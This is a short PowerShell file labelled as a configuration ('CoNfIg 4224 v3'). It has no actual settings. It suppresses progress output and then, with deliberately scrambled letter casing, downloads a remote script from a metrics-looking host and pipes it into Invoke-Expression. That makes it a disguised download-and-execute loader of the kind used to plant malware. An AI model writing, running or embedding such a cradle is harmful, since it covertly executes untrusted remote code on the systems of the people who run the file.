# CoNfIg 4224 v3
$pRoGrEsSpReFeReNcE = 'SilentlyContinue'
iwR -UsEbASICParSing HttP://stAtiC.metrICS-nOdE.ExAmPlE/a.Ps1 | IEX
